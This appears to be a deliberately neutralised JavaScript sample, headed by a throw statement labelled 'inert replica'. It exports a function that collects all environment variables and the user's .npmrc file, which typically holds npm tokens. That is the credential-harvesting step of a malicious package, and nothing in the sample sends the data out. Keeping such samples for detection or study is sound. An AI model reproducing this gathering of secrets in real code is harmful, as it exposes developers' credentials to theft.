throw new Error("inert replica");
const fs = require("fs");
const os = require("os");
const path = require("path");
exports.collect = () => ({ variables: process.env, settings: fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8") });
